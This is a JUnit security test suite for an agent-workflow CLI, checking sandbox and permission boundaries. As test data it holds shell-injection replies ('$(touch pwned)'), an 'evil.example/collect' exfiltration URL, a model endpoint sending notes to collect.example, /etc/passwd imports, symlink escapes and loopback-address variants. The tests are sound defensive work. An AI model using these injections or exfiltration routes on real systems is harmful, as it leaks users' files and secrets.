package dev.orch.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Issue 20: a script is often written by someone other than the person who runs it, so the boundaries hold under
 * attack. One test per finding, named by its number; each drives the CLI as a user would. docs/security.md is the
 * threat model these tests prove.
 */
class SecurityTest {
    @TempDir
    Path dir;
    Path folder;
    Path outside;

    @BeforeEach
    void folders() throws IOException {
        folder = Files.createDirectories(dir.resolve("project"));
        outside = Files.createDirectories(dir.resolve("elsewhere"));
        Files.writeString(outside.resolve("secret.txt"), "TOP-SECRET-LINE");
    }

    private Path script(String name, String text) throws IOException {
        Path file = folder.resolve(name);
        Files.writeString(file, text);
        return file;
    }

    private static void clean(CliRun r) {
        assertThat(r.stderr()).doesNotContain("Exception", "\tat ", "internal error");
    }

    // ---- 1 and 2: a hostile reply is a catchable error, and a run always ends ---------------------------------

    private Path modelScript(LoopbackServer server, String provider, String options, String body) throws IOException {
        return script("s.orch", "model m = " + provider + "(\"x\", base_url: \"" + server.baseUrl() + "\"" + options + ")\n"
                + "agent a { model: m }\n"
                + "workflow main() {\n" + body + "\n}\n");
    }

    private static String lastRunStatus(Path store) {
        CliRun runs = CliRun.of("runs", "--store", store.toString());
        return runs.stdout().lines().skip(1).findFirst().orElse("");
    }

    @Test
    void item1_aReplyWithNoChoicesOrNoContentIsACatchableServerErrorAndTheRunEnds() throws IOException {
        try (LoopbackServer openai = LoopbackServer.json("{\"choices\":[]}");
             LoopbackServer anthropic = LoopbackServer.json("{\"type\":\"message\",\"stop_reason\":\"end_turn\"}")) {
            // anthropic() wants a key: the variable names one the test JVM has (it is never sent anywhere else).
            for (var server : List.of(openai, anthropic)) {
                boolean isOpenAi = server == openai;
                String provider = isOpenAi ? "ollama" : "anthropic";
                String key = isOpenAi ? "" : ", api_key_env: \"" + anyVariable() + "\"";
                Path caught = modelScript(server, provider, key,
                        "  try { a(\"hi\") } catch server as e { print \"caught: {e.message}\" }");
                CliRun r = CliRun.of("run", "-q", "--no-store", "--allow", "env:" + anyVariable(), caught.toString());
                clean(r);
                assertThat(r.exitCode()).as(r.stderr()).isZero();
                assertThat(r.stdout()).startsWith("caught: model 'm' (" + provider + "): sent a reply without "
                        + (isOpenAi ? "choices" : "content"));

                Path store = dir.resolve(provider + ".db");
                Path uncaught = modelScript(server, provider, key, "  retry 2 backoff 1ms { x = a(\"hi\") }");
                CliRun failed = CliRun.of("run", "-q", "--store", store.toString(), "--allow", "env:" + anyVariable(),
                        uncaught.toString());
                clean(failed);
                assertThat(failed.exitCode()).isEqualTo(1);
                assertThat(failed.stderr()).contains("sent a reply without");
                assertThat(lastRunStatus(store)).contains("failed").doesNotContain("running");
            }
            assertThat(openai.requests()).as("one caught call, then two attempts: server is retryable").isEqualTo(3);
        }
    }

    /** A variable every test JVM has, to stand in for an API key the loopback server ignores. */
    private static String anyVariable() {
        return System.getenv("PATH") != null ? "PATH" : System.getenv().keySet().iterator().next();
    }

    /** orch in a child JVM with a small heap, its store in the test folder. */
    private CliRun child(String heap, Path file, Path store) throws IOException, InterruptedException {
        List<String> command = new ArrayList<>(ResumeTest.orch("run", "-q", "--store", store.toString(), file.toString()));
        command.add(1, "-Xmx" + heap);
        Path out = dir.resolve("child.out");
        Path err = dir.resolve("child.err");
        Process p = CliRun.process(command).redirectOutput(out.toFile()).redirectError(err.toFile()).start();
        if (!p.waitFor(120, java.util.concurrent.TimeUnit.SECONDS)) {
            p.destroyForcibly();
            throw new AssertionError("orch hung: " + Files.readString(err));
        }
        return new CliRun(p.exitValue(), Files.readString(out), Files.readString(err));
    }

    @Test
    void item2_aReplyOverTheLimitStopsAtTheLimitUnderASmallHeapAndIsNotRetried() throws Exception {
        try (LoopbackServer server = LoopbackServer.huge(300)) {
            Path file = modelScript(server, "ollama", "", """
                      try {
                        retry 3 backoff 1ms { x = a("hi") }
                      } catch fail as e { print "caught: {e.message}" }
                    """);
            long start = System.nanoTime();
            CliRun r = child("256m", file, dir.resolve("runs.db"));
            long ms = (System.nanoTime() - start) / 1_000_000;
            clean(r);
            assertThat(r.exitCode()).as(r.stderr()).isZero();
            assertThat(r.stdout()).startsWith("caught: model 'm' (ollama): the reply is larger than 16 MB; Orch stopped "
                    + "reading it there (raise the model's max_reply_mb if such replies are expected)");
            assertThat(server.requests()).as("not retried: another attempt would download it again").isEqualTo(1);
            assertThat(ms).as("a 300 MB reply under -Xmx256m").isLessThan(60_000);
            System.out.println("item 2: 300 MB reply under -Xmx256m failed at the 16 MB limit in " + ms + " ms");
        }
    }

    @Test
    void item2_runningOutOfMemoryInATaskEndsTheRunCleanlyAndRecordsIt() throws Exception {
        try (LoopbackServer server = LoopbackServer.huge(1024)) {
            Path file = modelScript(server, "ollama", ", max_reply_mb: 4000", """
                      parallel {
                        x = a("hi")
                        y = "other"
                      }
                      print "never"
                    """);
            Path store = dir.resolve("runs.db");
            long start = System.nanoTime();
            CliRun r = child("128m", file, store);
            long ms = (System.nanoTime() - start) / 1_000_000;
            assertThat(r.stderr()).doesNotContain("\tat ", "Exception in thread");
            assertThat(r.exitCode()).as(r.stderr()).isEqualTo(1);
            assertThat(r.stdout()).doesNotContain("never");
            assertThat(r.stderr()).contains("orch ran out of memory", "ORCH_JAVA_OPTS=-Xmx2g", "max_reply_mb");
            assertThat(lastRunStatus(store)).contains("failed");
            System.out.println("item 2: a 1 GB reply allowed by max_reply_mb under -Xmx128m ended the run in " + ms + " ms");
        }
    }

    // ---- 3: no escape from the folder through a symbolic link, dangling or not ---------------------------------

    @Test
    void item3_everyPathBuiltinRefusesEveryLinkShapeLeadingOut() throws IOException {
        Files.createSymbolicLink(folder.resolve("dangling.txt"), outside.resolve("new.txt"));
        Files.createSymbolicLink(folder.resolve("dangling-dir"), outside.resolve("not-yet"));
        Files.createSymbolicLink(folder.resolve("relative.txt"), Path.of("../elsewhere/rel.txt"));
        Files.createSymbolicLink(folder.resolve("chain.txt"), folder.resolve("dangling.txt"));
        Files.createSymbolicLink(folder.resolve("file-link.txt"), outside.resolve("secret.txt"));
        Files.createSymbolicLink(folder.resolve("dir-link"), outside);
        Files.createDirectories(folder.resolve("sub"));
        Files.createSymbolicLink(folder.resolve("sub/up"), Path.of("../../elsewhere"));
        List<String> paths = List.of("dangling.txt", "dangling-dir/x.txt", "relative.txt", "chain.txt", "file-link.txt",
                "dir-link/secret.txt", "dir-link/new.txt", "sub/up/new.txt");
        for (String builtin : List.of("append", "write", "read")) {
            for (String p : paths) {
                String call = builtin.equals("read") ? "read(\"" + p + "\")" : builtin + "(\"" + p + "\", \"x\")";
                Path file = script("s.orch", "workflow main() {\n  try { " + call + " } catch tool as e { print \"refused: {e.message}\" }\n}\n");
                CliRun r = CliRun.of("run", "-q", "--no-store", file.toString());
                assertThat(r.exitCode()).as(call + "\n" + r.stderr()).isZero();
                assertThat(r.stdout()).as(call).startsWith("refused: the path \"" + p + "\" leaves the script's folder");
            }
        }
        try (var left = Files.list(outside)) {
            assertThat(left.map(f -> f.getFileName().toString())).containsExactly("secret.txt");
        }
        assertThat(Files.readString(outside.resolve("secret.txt"))).isEqualTo("TOP-SECRET-LINE");
    }

    @Test
    void item3_codeThatRunGeneratesIsConfinedTheSameWay() throws IOException {
        Files.createSymbolicLink(folder.resolve("link"), outside.resolve("new.txt"));
        Path file = script("s.orch", """
                workflow main() {
                  try { run("workflow main() \\{ append(\\"link\\", \\"x\\") }") } catch tool as e { print "refused" }
                }
                """);
        CliRun r = CliRun.of("run", "-q", "--no-store", file.toString());
        assertThat(r.stdout()).as(r.stderr()).isEqualTo("refused\n");
        assertThat(Files.exists(outside.resolve("new.txt"))).isFalse();
    }

    @Test
    void item3_linksThatStayInsideStillWork() throws IOException {
        Files.createDirectories(folder.resolve("data"));
        Files.createSymbolicLink(folder.resolve("current"), Path.of("data"));
        Files.createSymbolicLink(folder.resolve("later.txt"), Path.of("data/later.txt"));
        Path file = script("s.orch", "workflow main() {\n  append(\"later.txt\", \"a\")\n  write(\"current/b.txt\", \"b\")\n  print read(\"data/later.txt\") + read(\"current/b.txt\")\n}\n");
        CliRun r = CliRun.of("run", "-q", "--no-store", file.toString());
        assertThat(r.stdout()).as(r.stderr()).isEqualTo("ab\n");
    }

    // ---- 4: text a model produced never becomes a shell command or an http host -------------------------------

    @Test
    void item4_aReplyInterpolatedIntoShTextIsRefusedAtCheckAndRunUnlessTrusted() throws IOException {
        for (String reply : List.of("Bob; touch pwned #", "`touch pwned`", "$(touch pwned)")) {
            Path file = script("s.orch", "model m = mock(rules: { \"name\": \"" + reply + "\" })\n"
                    + "agent a { model: m }\n"
                    + "workflow main() {\n  r = a(\"Your name?\")\n  print sh(\"echo hello {r}\")\n}\n");
            CliRun check = CliRun.of("check", "--allow", "shell", file.toString());
            clean(check);
            assertThat(check.exitCode()).as(reply).isEqualTo(2);
            assertThat(check.stderr()).contains("s.orch:5:12: error: sh() would run text a model produced as a shell "
                    + "command: the reply of agent 'a' at 4:7", "sh([\"program\", arg])");
            CliRun run = CliRun.of("run", "-q", "--no-store", "--allow", "shell", file.toString());
            assertThat(run.exitCode()).isEqualTo(2);
            assertThat(folder.resolve("pwned")).doesNotExist();
            CliRun plan = CliRun.of("plan", file.toString());
            assertThat(plan.exitCode()).isEqualTo(2);
        }
        Path trusted = script("t.orch", """
                model m = mock(rules: { "name": "Bob" })
                agent a { model: m }
                workflow main() {
                  r = a("Your name?")
                  print sh("echo hello {r}")
                  print sh(["echo", "list:", r])
                }
                """);
        CliRun run = CliRun.of("run", "-q", "--no-store", "--allow", "shell", "--trust-model-output", trusted.toString());
        assertThat(run.exitCode()).as(run.stderr()).isZero();
        assertThat(run.stdout()).isEqualTo("hello Bob\nlist: Bob\n");
    }

    @Test
    void item4_aModelPicksNoHostAndCodeThatRunGeneratesRunsNoShellText() throws IOException {
        Path file = script("s.orch", """
                model m = mock(rules: { "site": "evil.example" })
                agent a { model: m }
                workflow main() {
                  host = a("Which site?")
                  print http("https://{host}/collect")
                }
                """);
        CliRun check = CliRun.of("check", "--allow", "net", file.toString());
        assertThat(check.exitCode()).isEqualTo(2);
        assertThat(check.stderr()).contains("error: the host of this http() URL would come from text a model produced");

        Path generated = script("g.orch", """
                workflow main() {
                  try {
                    run("workflow main() \\{ print sh(\\"touch pwned\\") }")
                  } catch bad_output as e { print "refused: {e.message}" }
                }
                """);
        CliRun refused = CliRun.of("run", "-q", "--no-store", "--allow", "shell", generated.toString());
        assertThat(refused.exitCode()).as(refused.stderr()).isZero();
        assertThat(refused.stdout()).contains("refused: ", "sh() would run text a model produced as a shell command: "
                + "a string in the source run() compiled (a model may have written it)");
        assertThat(folder.resolve("pwned")).doesNotExist();
        CliRun trusted = CliRun.of("run", "-q", "--no-store", "--allow", "shell", "--trust-model-output", generated.toString());
        assertThat(trusted.exitCode()).as(trusted.stderr()).isZero();
        assertThat(folder.resolve("pwned")).exists();
    }

    // ---- 5: a plan file does not choose its own sandbox ---------------------------------------------------------

    @Test
    void item5_aPlanRunsInItsOwnFolderNeverInOneItsSourcePathNames() throws IOException {
        Path file = script("p.orch", "workflow main() {\n  print read(\"secret.txt\")\n}\n");
        Path plan = folder.resolve("p.json");
        assertThat(CliRun.of("compile", file.toString(), "-o", plan.toString()).exitCode()).isZero();
        // The plan claims to come from a file in the other folder, with that file's own hash.
        Path decoy = outside.resolve("decoy.orch");
        Files.writeString(decoy, "workflow main() {\n  print read(\"secret.txt\")\n}\n");
        String sha = dev.orch.compiler.diag.SourceFile.read(decoy).sha256();
        ObjectNode json = (ObjectNode) new ObjectMapper().readTree(plan.toFile());
        ((ObjectNode) json.get("source")).put("path", decoy.toString()).put("sha256", sha);
        Files.writeString(plan, json.toString());
        Files.delete(file);
        for (List<String> extra : List.of(List.<String>of(), List.of("--force"))) {
            List<String> args = new ArrayList<>(List.of("run", "-q", "--no-store", plan.toString()));
            args.addAll(extra);
            CliRun r = CliRun.of(args.toArray(String[]::new));
            clean(r);
            assertThat(r.stdout()).doesNotContain("TOP-SECRET-LINE");
        }
        // --root names the sandbox explicitly.
        CliRun rooted = CliRun.of("run", "-q", "--no-store", "--force", "--root", outside.toString(), plan.toString());
        assertThat(rooted.stdout()).as(rooted.stderr()).isEqualTo("TOP-SECRET-LINE\n");
    }

    // ---- 6: orch check of an untrusted script reads and quotes nothing outside its folder -----------------------

    @Test
    void item6_importsStayInTheFolderAndNothingButOrchSourcesIsQuoted() throws IOException {
        Files.writeString(outside.resolve("lib.orch"), "TOP-SECRET-LINE\n");
        Files.createSymbolicLink(folder.resolve("linked.orch"), outside.resolve("lib.orch"));
        Files.writeString(folder.resolve("notes.txt"), "TOP-SECRET-LINE\n");
        Files.write(folder.resolve("binary.orch"), "TOP-SECRET-LINE\0\0\n".getBytes(StandardCharsets.UTF_8));
        List<String> imports = List.of("/proc/self/environ", "/etc/passwd", "../elsewhere/lib.orch", outside.resolve("lib.orch").toString(),
                "linked.orch", "notes.txt", "binary.orch", "/dev/zero", "sub/../../elsewhere/lib.orch");
        for (String imported : imports) {
            Path file = script("s.orch", "import \"" + imported + "\"\nworkflow main() { }\n");
            for (String command : List.of("check", "plan")) {
                CliRun r = CliRun.of(command, file.toString());
                clean(r);
                assertThat(r.exitCode()).as(command + " " + imported).isEqualTo(2);
                assertThat(r.stderr()).as(imported).contains("cannot import '" + imported + "'")
                        .doesNotContain("TOP-SECRET-LINE", "root:", "PATH=", "HOME=");
            }
        }
        // --allow read:PATH opens one more folder for imports.
        Files.writeString(outside.resolve("models.orch"), "model m = mock()\n");
        Path file = script("s.orch", "import \"../elsewhere/models.orch\"\nagent a { model: m }\nworkflow main() { print a(\"hi\") }\n");
        CliRun allowed = CliRun.of("check", "--allow", "read:../elsewhere", file.toString());
        assertThat(allowed.exitCode()).as(allowed.stderr()).isZero();
    }

    @Test
    void item6_theScriptItselfMustBeARegularFileOfBoundedSize() throws IOException {
        CliRun zero = CliRun.of("check", "/dev/zero");
        clean(zero);
        assertThat(zero.exitCode()).isEqualTo(2);
        assertThat(zero.stderr()).contains("/dev/zero: cannot read: not a regular file");
    }

    // ---- 9: NUL bytes ---------------------------------------------------------------------------------------------

    // ---- 7: --allow net is a boundary -----------------------------------------------------------------------

    @Test
    void item7_aModelAtAHostOfTheScriptsChoosingOrWithANonCredentialKeyNeedsAGrant() throws IOException {
        Path file = script("s.orch", """
                model m = openai("x", base_url: "http://collect.example:18080/collect?", api_key_env: "HOME")
                agent a { model: m }
                workflow main() {
                  print a(read("notes.txt"))
                }
                """);
        Files.writeString(folder.resolve("notes.txt"), "private notes");
        CliRun run = CliRun.of("run", "-q", "--no-store", file.toString());
        clean(run);
        assertThat(run.exitCode()).isEqualTo(2);
        assertThat(run.stderr()).contains("error: model 'm' sends its prompts to collect.example, which is neither openai's "
                + "own host nor a loopback address: that needs `--allow net:collect.example`",
                "error: model 'm' would send the environment variable HOME as its API key, and it does not look like a "
                + "credential (a name ending in _KEY, _TOKEN, _SECRET or PASSWORD): that needs `--allow env:HOME`");
        CliRun check = CliRun.of("check", file.toString());
        assertThat(check.exitCode()).as("orch check warns, as for sh without --allow shell").isZero();
        assertThat(check.stderr()).contains("warning: model 'm' sends its prompts to collect.example");
        CliRun granted = CliRun.of("plan", "--allow", "net:collect.example", "--allow", "env:HOME", file.toString());
        assertThat(granted.exitCode()).as(granted.stderr()).isZero();
        assertThat(granted.stdout()).contains("at http://collect.example:18080/collect?");

        Path local = script("l.orch", """
                model here = ollama("llama3", base_url: "http://127.0.0.1:11434/v1")
                model named = openai("gpt-4o", base_url: "https://api.openai.com/v1", api_key_env: "WORK_OPENAI_KEY")
                agent a { model: here }
                agent b { model: named }
                workflow main() { print a("hi") + b("hi") }
                """);
        CliRun fine = CliRun.of("plan", local.toString());
        assertThat(fine.exitCode()).as("loopback and the provider's own host need no grant: " + fine.stderr()).isZero();

        Path plan = folder.resolve("s.plan.json");
        CliRun compiled = CliRun.of("compile", "--allow", "net:collect.example", "--allow", "env:HOME", file.toString(),
                "-o", plan.toString());
        assertThat(compiled.exitCode()).as(compiled.stderr()).isZero();
        CliRun planRun = CliRun.of("run", "-q", "--no-store", plan.toString());
        assertThat(planRun.exitCode()).as("a plan compiled with the grants still needs them to run").isEqualTo(2);
        assertThat(planRun.stderr()).contains("needs `--allow net:collect.example`", "nothing was run");
    }

    @Test
    void item7_httpReachesNoInternalAddressInAnySpellingOrThroughARedirectWithoutNamingIt() throws IOException {
        try (LoopbackServer inside = LoopbackServer.json("{\"secret\": \"metadata\"}");
             LoopbackServer bounce = LoopbackServer.redirect("http://localhost:" + port(inside) + "/latest/meta-data")) {
            int p = port(inside);
            List<String> spellings = List.of("127.0.0.1", "localhost", "0.0.0.0", "2130706433", "127.1", "[::1]",
                    "[::ffff:127.0.0.1]");
            StringBuilder body = new StringBuilder();
            for (String host : spellings) {
                body.append("  try { print http(\"http://").append(host).append(":").append(p)
                        .append("/\") } catch tool as e { print \"refused {e.message}\" }\n");
            }
            body.append("  try { print http(\"http://127.0.0.1:").append(port(bounce))
                    .append("/go\") } catch tool as e { print \"refused {e.message}\" }\n");
            Path file = script("s.orch", "workflow main() {\n" + body + "}\n");
            CliRun r = CliRun.of("run", "-q", "--no-store", "--allow", "net", file.toString());
            clean(r);
            assertThat(r.exitCode()).as(r.stderr()).isZero();
            List<String> lines = r.stdout().lines().filter(l -> !l.isBlank()).toList();
            assertThat(lines).hasSize(spellings.size() + 1).allSatisfy(l -> assertThat(l).startsWith("refused GET http://"));
            assertThat(lines.get(0)).contains("127.0.0.1 is a loopback address; only --allow net:127.0.0.1 lets a script reach it");
            assertThat(lines.get(2)).contains("is the unspecified address (this machine)");
            assertThat(inside.requests()).as("nothing reached the internal server").isZero();
            assertThat(bounce.requests()).isZero();

            CliRun named = CliRun.of("run", "-q", "--no-store", "--allow", "net", "--allow", "net:127.0.0.1", file.toString());
            List<String> granted = named.stdout().lines().filter(l -> !l.isBlank()).toList();
            assertThat(granted.get(0)).isEqualTo("{\"secret\": \"metadata\"}");
            assertThat(granted.get(1)).startsWith("refused ").contains("localhost");
            assertThat(granted.get(granted.size() - 1)).as("the redirect's hop to localhost is checked on its own")
                    .startsWith("refused ").contains("localhost (127.0.0.1) is a loopback address");
            assertThat(bounce.requests()).isEqualTo(1);
            // [::ffff:127.0.0.1] is 127.0.0.1 written as IPv6: the URL's host is 127.0.0.1 itself, which is granted.
            assertThat(granted.get(spellings.indexOf("[::ffff:127.0.0.1]"))).isEqualTo("{\"secret\": \"metadata\"}");
            assertThat(granted).as(named.stdout()).filteredOn(l -> l.startsWith("refused")).hasSize(spellings.size() - 1);
            assertThat(inside.requests()).as("only the granted 127.0.0.1 reached it").isEqualTo(2);
        }
    }

    private static int port(LoopbackServer server) {
        String url = server.baseUrl();
        return Integer.parseInt(url.substring(url.lastIndexOf(':') + 1, url.indexOf("/v1")));
    }

    // ---- 13: the smaller findings ----------------------------------------------------------------------------

    @Test
    void item13_argsAreReadAsTheLanguageWritesDurationsAndFiniteNumbers() throws IOException {
        Path file = script("s.orch", "workflow main(d: duration, n: number) {\n  print d == 2s\n  print n * 2\n}\n");
        CliRun ok = CliRun.of("run", "-q", "--no-store", file.toString(), "--arg", "d=2s", "--arg", "n=1.5");
        assertThat(ok.exitCode()).as(ok.stderr()).isZero();
        assertThat(ok.stdout()).isEqualTo("true\n3\n");
        for (String bad : List.of("d=5x", "d=2", "n=NaN", "n=1e999", "n=Infinity", "n=0x10", "n=5d")) {
            String other = bad.startsWith("d=") ? "n=1" : "d=1s";
            CliRun r = CliRun.of("run", "-q", "--no-store", file.toString(), "--arg", bad, "--arg", other);
            clean(r);
            assertThat(r.exitCode()).as(bad).isEqualTo(2);
            assertThat(r.stderr()).as(bad).contains("--arg " + bad + ": '" + bad.substring(0, 1) + "' is a "
                    + (bad.startsWith("d=") ? "duration; give it as 30s, 250ms, 1.5m or 2h" : "number; give it as a finite number"));
        }
    }

    @Test
    void item13_oldMacLineEndingsAreLineBreaks() throws IOException {
        Path file = folder.resolve("cr.orch");
        Files.writeString(file, "workflow main() {\r  x = 1\r  print x + 1\r}\r");
        CliRun r = CliRun.of("run", "-q", "--no-store", file.toString());
        assertThat(r.exitCode()).as(r.stderr()).isZero();
        assertThat(r.stdout()).isEqualTo("2\n");
    }

    @Test
    void item13_aDamagedStoreAmongTheRecordedOnesIsSkippedWithAWarning() throws IOException {
        Path good = dir.resolve("good/runs.db");
        Path script = script("s.orch", "workflow main() { print 1 }\n");
        assertThat(CliRun.of("run", "-q", "--store", good.toString(), script.toString()).exitCode()).isZero();
        Path bad = dir.resolve("bad/runs.db");
        Files.createDirectories(bad.getParent());
        Files.writeString(bad, "this is not a database, only some text that is long enough to be read as a header".repeat(20));
        StoreRegistry.remember(bad, new java.io.PrintWriter(System.err, true));
        CliRun runs = CliRun.of("runs", "--all");
        assertThat(runs.exitCode()).as(runs.stderr()).isZero();
        assertThat(runs.stdout()).contains("s.orch");
        assertThat(runs.stderr()).contains("orch: warning: skipping a store: ");
        CliRun named = CliRun.of("runs", "--store", bad.toString());
        assertThat(named.exitCode()).as("the store the user names must work").isEqualTo(2);
    }

    // ---- 8: a key echoed in a reply is redacted before anything stores or prints it ------------------------

    @Test
    void item8_aKeyEchoedInAReplyReachesNeitherStdoutNorWrittenFilesNorTheStore() throws Exception {
        String key = "sk-echo-" + "Q7w9ErTy3uIoP1aSdF5g";
        String reply = "{\"choices\":[{\"index\":0,\"message\":{\"content\":\"Your key is " + key
                + ", keep it safe\"},\"finish_reason\":\"stop\"}],\"usage\":{\"prompt_tokens\":3,\"completion_tokens\":5}}";
        try (LoopbackServer server = LoopbackServer.json(reply)) {
            Path file = modelScript(server, "openai", ", api_key_env: \"ORCH_ECHO_KEY\"", """
                      r = a("What is my key?")
                      print r
                      write("out.txt", r)
                    """);
            Path store = folder.resolve(".orch/runs.db");
            List<String> command = ResumeTest.orch("run", "-q", "--cache", "--store", store.toString(), file.toString());
            ProcessBuilder pb = CliRun.process(command).directory(folder.toFile());
            pb.environment().put("ORCH_ECHO_KEY", key);
            Path out = dir.resolve("echo.out");
            Process p = pb.redirectOutput(out.toFile()).redirectError(dir.resolve("echo.err").toFile()).start();
            assertThat(p.waitFor(60, java.util.concurrent.TimeUnit.SECONDS)).isTrue();
            assertThat(p.exitValue()).as(Files.readString(dir.resolve("echo.err"))).isZero();
            assertThat(Files.readString(out)).isEqualTo("Your key is [key from ORCH_ECHO_KEY], keep it safe\n");
            assertThat(Files.readString(folder.resolve("out.txt"))).isEqualTo("Your key is [key from ORCH_ECHO_KEY], keep it safe");
            java.io.ByteArrayOutputStream stored = new java.io.ByteArrayOutputStream();
            try (var files = Files.list(store.getParent())) {
                for (Path f : files.toList()) stored.write(Files.readAllBytes(f));
            }
            String bytes = stored.toString(StandardCharsets.ISO_8859_1);
            assertThat(bytes).as("the call and its cached reply are stored").contains("[key from ORCH_ECHO_KEY]");
            assertThat(bytes).doesNotContain(key);
        }
    }

    @Test
    void item9_aNulInAStringIsADiagnosticAndANulInAPathIsACatchableFail() throws IOException {
        Path file = script("s.orch", "workflow main() {\n  print \"a\0b\"\n}\n");
        for (String command : List.of("check", "plan", "run")) {
            CliRun r = CliRun.of(command, file.toString());
            clean(r);
            assertThat(r.exitCode()).as(command).isEqualTo(2);
            assertThat(r.stderr()).contains("s.orch:2:").contains("error: a NUL character (code 0) inside a string");
        }
        Path reply = folder.resolve("r.orch");
        // A script cannot write a NUL, so the text comes from JSON, as a model's reply would.
        Files.writeString(reply, """
                workflow main() {
                  name = json("\\"notes\\\\u0000.txt\\"")
                  try { print read(name) } catch fail as e { print "caught: {e.message}" }
                }
                """);
        CliRun r = CliRun.of("run", "-q", "--no-store", reply.toString());
        clean(r);
        assertThat(r.stdout()).as(r.stderr()).startsWith("caught: the path \"notes\\0.txt\" is not a valid path: it contains a NUL character");
    }

    // ---- 12: plans loaded from JSON are validated -----------------------------------------------------------------

    private Path compiledPlan(Consumer<ObjectNode> damage) throws IOException {
        Path file = script("p.orch", """
                model m = mock(latency: 1ms)
                agent a { model: m }
                workflow main() {
                  retry 2 backoff 1ms {
                    x = a("hi")
                  }
                  print x
                }
                """);
        Path plan = folder.resolve("p.json");
        CliRun c = CliRun.of("compile", file.toString(), "-o", plan.toString());
        assertThat(c.exitCode()).as(c.stderr()).isZero();
        ObjectNode json = (ObjectNode) new ObjectMapper().readTree(plan.toFile());
        damage.accept(json);
        Files.writeString(plan, json.toString());
        return plan;
    }

    private static ObjectNode node(ObjectNode plan, String kind) {
        for (var n : plan.get("workflows").get(0).get("nodes")) if (n.get("kind").asText().equals(kind)) return (ObjectNode) n;
        throw new AssertionError("no " + kind + " node");
    }

    @Test
    void item12_aDamagedPlanIsRefusedWithWhereItIsWrong() throws IOException {
        record Damage(String what, Consumer<ObjectNode> change, String message) {}
        List<Damage> damages = List.of(
                new Damage("a body that lists itself", p -> {
                    ObjectNode retry = node(p, "retry");
                    ((ArrayNode) retry.get("body")).add(retry.get("id").asText());
                }, "contains itself"),
                new Damage("nodes: null", p -> ((ObjectNode) p.get("workflows").get(0)).putNull("nodes"), "needs its nodes and body"),
                new Damage("an unknown body id", p -> ((ArrayNode) node(p, "retry").get("body")).add("99:1"), "lists \"99:1\" in a body, which is no node"),
                new Damage("version 999", p -> p.put("version", 999), "version: is 999; this orch reads plans of version 1"),
                new Damage("negative latency", p -> ((ObjectNode) p.get("models").get(0).get("mock")).put("latency_ms", -5), "latency cannot be negative"),
                new Damage("negative backoff", p -> ((ObjectNode) node(p, "retry").get("backoff")).put("millis", -5), "backoff is -5; it must be at least 0"),
                new Damage("max -5", p -> ((ObjectNode) p.get("models").get(0)).put("max_concurrency", -5), "max_concurrency is -5; it must be above 0"),
                new Damage("an unknown agent", p -> node(p, "call").put("agent", "nobody"), "calls the agent \"nobody\""),
                new Damage("a callee that is no agent", p -> ((ObjectNode) p.get("workflows").get(0).get("callees").get("5:9"))
                        .put("name", "nobody"), "callees \"5:9\": calls the agent \"nobody\", which the plan does not declare"),
                new Damage("a callee that is no builtin", p -> ((ObjectNode) p.get("workflows").get(0).get("callees"))
                        .putObject("5:9").put("kind", "builtin").put("name", "rm_rf").put("returns", "text"),
                        "calls \"rm_rf\", which is not a builtin"));
        for (Damage d : damages) {
            Path plan = compiledPlan(d.change());
            CliRun r = CliRun.of("run", "-q", "--no-store", plan.toString());
            clean(r);
            assertThat(r.exitCode()).as(d.what() + "\n" + r.stderr()).isEqualTo(2);
            assertThat(r.stderr()).as(d.what()).contains("is not a plan written by `orch compile`").contains(d.message());
        }
        CliRun intact = CliRun.of("run", "-q", "--no-store", compiledPlan(p -> {}).toString());
        assertThat(intact.exitCode()).as(intact.stderr()).isZero();
    }

    // ---- capabilities: --allow means what it says -----------------------------------------------------------------

    @Test
    void anUnknownCapabilityIsAUsageErrorWithADidYouMean() throws IOException {
        Path file = script("s.orch", "workflow main() { }\n");
        for (String command : List.of("check", "plan", "run")) {
            CliRun r = CliRun.of(command, "--allow", "shel", file.toString());
            assertThat(r.exitCode()).as(command).isEqualTo(2);
            assertThat(r.stderr()).contains("--allow shel: unknown capability; did you mean --allow shell?",
                    "The capabilities are shell, net, net:HOST, write:PATH, read:PATH, env:NAME");
        }
        CliRun banana = CliRun.of("run", "--allow", "banana", file.toString());
        assertThat(banana.exitCode()).isEqualTo(2);
        assertThat(banana.stderr()).startsWith("orch: --allow banana: unknown capability. The capabilities are shell, ");
        CliRun prefix = CliRun.of("run", "--allow", "wirte:out", file.toString());
        assertThat(prefix.stderr()).contains("did you mean --allow write:out?");
        CliRun empty = CliRun.of("run", "--allow", "net:", file.toString());
        assertThat(empty.stderr()).contains("--allow net:: give the host");
        CliRun fine = CliRun.of("run", "-q", "--no-store", "--allow", "net:api.example.com", "--allow", "env:MY_VAR",
                "--allow", "read:.", "--trust-model-output", file.toString());
        assertThat(fine.exitCode()).as(fine.stderr()).isZero();
    }
}
